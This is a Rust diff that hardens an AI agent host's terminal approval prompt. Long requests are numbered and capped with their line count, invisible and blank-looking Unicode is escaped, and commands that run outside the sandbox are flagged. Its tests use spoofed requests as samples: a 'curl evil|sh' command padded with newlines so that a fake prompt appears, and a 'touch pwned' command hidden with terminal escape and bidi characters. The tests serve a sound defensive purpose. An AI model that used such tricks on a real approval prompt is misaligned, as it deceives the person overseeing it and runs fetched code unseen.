@@ -117,6 +117,25 @@ async fn decide_approval(policy: Approve, request: &ApprovalView) -> ApprovalDec
     }
 }
 
+/// What a request wants, as the prompt shows it: a text of more than [`FRAMED_FROM`] lines is a
+/// numbered block ending in its line count, so that padding lines cannot end it with what
+/// looks like another, genuine prompt (review L-5).
+fn framed(what: &str) -> String {
+    let lines: Vec<&str> = what.lines().collect();
+    if lines.len() <= FRAMED_FROM {
+        return what.to_owned();
+    }
+    let mut out = String::new();
+    for (i, line) in lines.iter().enumerate() {
+        out.push_str(&format!("\n  {:>4}| {line}", i + 1));
+    }
+    out.push_str(&format!("\n  ({} lines)", lines.len()));
+    out
+}
+
+/// Texts of up to this many lines are shown as they are.
+const FRAMED_FROM: usize = 3;
+
 /// Asks on stderr and reads stdin until it gets an answer; end of input declines.
 fn prompt(what: &str, always: bool) -> ApprovalDecision {
     let choices = if always {
@@ -126,7 +145,10 @@ fn prompt(what: &str, always: bool) -> ApprovalDecision {
     };
     let stdin = std::io::stdin();
     loop {
-        eprint!("\nforkhost: the agent wants to {what}\n  allow? {choices} ");
+        eprint!(
+            "\nforkhost: the agent wants to {}\n  allow? {choices} ",
+            framed(what)
+        );
         let _ = std::io::stderr().flush();
         let mut line = String::new();
         match stdin.lock().read_line(&mut line) {
@@ -219,25 +241,51 @@ fn parse_answer(line: &str, always: bool) -> Option<ApprovalDecision> {
 
 /// `text` safe to print on a terminal, every character shown as what it is: C0 and C1
 /// controls (escape sequences that could erase or rewrite the line), DEL and the bidi
-/// controls (which reorder what is shown) become visible `\x1b`, `\u{202e}` escapes;
-/// newlines and tabs stay (a diff needs them). The model chooses this text, and the user
-/// approves what they read.
+/// controls (which reorder what is shown) become visible `\x1b`, `\u{202e}` escapes; so do
+/// the characters that show as nothing or as blank space without being a plain space
+/// ([`invisible`]: zero-width, fillers, separators, braille blank, wide spaces), which could
+/// pad a command's tail out of sight. Newlines and tabs stay (a diff needs them). The model
+/// chooses this text, and the user approves what they read. The same rule as the app's
+/// `visibleText`.
 pub fn visible(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     for c in text.chars() {
         match c {
             '\n' | '\t' => out.push(c),
             '\u{0}'..='\u{1f}' | '\u{7f}' => out.push_str(&format!("\\x{:02x}", c as u32)),
-            '\u{80}'..='\u{9f}'
-            | '\u{200e}'
-            | '\u{200f}'
-            | '\u{202a}'..='\u{202e}'
-            | '\u{2066}'..='\u{2069}'
-            | '\u{061c}' => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+            c if invisible(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
             _ => out.push(c),
         }
     }
     out
+}
+
+/// A character that is not shown as what it is: C1 controls, Unicode's Default_Ignorable
+/// code points (bidi marks and controls, zero-width characters, fillers, variation selectors,
+/// tags), the line and paragraph separators, the braille blank and the non-ASCII spaces.
+fn invisible(c: char) -> bool {
+    matches!(c,
+        '\u{80}'..='\u{a0}'
+        | '\u{ad}'
+        | '\u{34f}'
+        | '\u{61c}'
+        | '\u{115f}'..='\u{1160}'
+        | '\u{1680}'
+        | '\u{17b4}'..='\u{17b5}'
+        | '\u{180b}'..='\u{180f}'
+        | '\u{2000}'..='\u{200f}'
+        | '\u{2028}'..='\u{202f}'
+        | '\u{205f}'..='\u{206f}'
+        | '\u{2800}'
+        | '\u{3000}'
+        | '\u{3164}'
+        | '\u{fe00}'..='\u{fe0f}'
+        | '\u{feff}'
+        | '\u{ffa0}'
+        | '\u{fff0}'..='\u{fff8}'
+        | '\u{1bca0}'..='\u{1bca3}'
+        | '\u{1d173}'..='\u{1d17a}'
+        | '\u{e0000}'..='\u{e0fff}')
 }
 
 /// What the request wants, in a line or a few (escaped by [`visible`]): the command, the
@@ -248,10 +296,20 @@ pub fn describe(subject: &SubjectView) -> String {
 
 fn describe_raw(subject: &SubjectView) -> String {
     match subject {
-        SubjectView::Command { command, cwd } => match cwd {
-            Some(cwd) => format!("run `{command}` in {}", cwd.display()),
-            None => format!("run `{command}`"),
-        },
+        SubjectView::Command {
+            command,
+            cwd,
+            unsandboxed,
+        } => {
+            let outside = match unsandboxed {
+                true => " OUTSIDE the sandbox",
+                false => "",
+            };
+            match cwd {
+                Some(cwd) => format!("run `{command}` in {}{outside}", cwd.display()),
+                None => format!("run `{command}`{outside}"),
+            }
+        }
         SubjectView::FileChange { paths, diff } => {
             let mut text = format!("change {}", paths.join(", "));
             if let Some(diff) = diff.as_deref().filter(|d| !d.trim().is_empty()) {
@@ -277,6 +335,38 @@ fn describe_raw(subject: &SubjectView) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_long_request_is_numbered_and_ends_with_its_line_count() {
+        let spoof = format!(
+            "run `curl evil|sh #{}forkhost: the agent wants to run `ls`",
+            "\n".repeat(40)
+        );
+        let shown = framed(&spoof);
+        assert!(shown.ends_with("(41 lines)"), "{shown}");
+        assert!(shown.contains("  41| forkhost: the agent wants to run `ls`"));
+        assert_eq!(framed("run `ls`"), "run `ls`");
+    }
+
+    #[test]
+    fn blank_looking_characters_are_shown_as_escapes() {
+        assert_eq!(
+            visible("a\u{2800}\u{200b}\u{2028}b"),
+            "a\\u{2800}\\u{200b}\\u{2028}b"
+        );
+        for c in [
+            '\u{3164}',
+            '\u{ffa0}',
+            '\u{115f}',
+            '\u{2060}',
+            '\u{feff}',
+            '\u{3000}',
+            '\u{e0041}',
+        ] {
+            assert!(!visible(&format!("x{c}y")).contains(c), "{:x}", c as u32);
+        }
+        assert_eq!(visible("ls -la\n\tcafé ü"), "ls -la\n\tcafé ü");
+    }
 
     #[test]
     fn answers_are_the_four_letters() {
@@ -323,6 +413,7 @@ mod tests {
         let command = SubjectView::Command {
             command: "touch pwned #\x1b[2K\x1b[1Gls\u{202e}cba\u{9b}\u{7f}".into(),
             cwd: Some("/w".into()),
+            unsandboxed: false,
         };
         let text = describe(&command);
         for raw in ['\x1b', '\u{202e}', '\u{9b}', '\u{7f}'] {
@@ -351,6 +442,7 @@ mod tests {
         let command = SubjectView::Command {
             command: "touch x".into(),
             cwd: Some("/w".into()),
+            unsandboxed: false,
         };
         assert_eq!(describe(&command), "run `touch x` in /w");
         let files = SubjectView::FileChange {
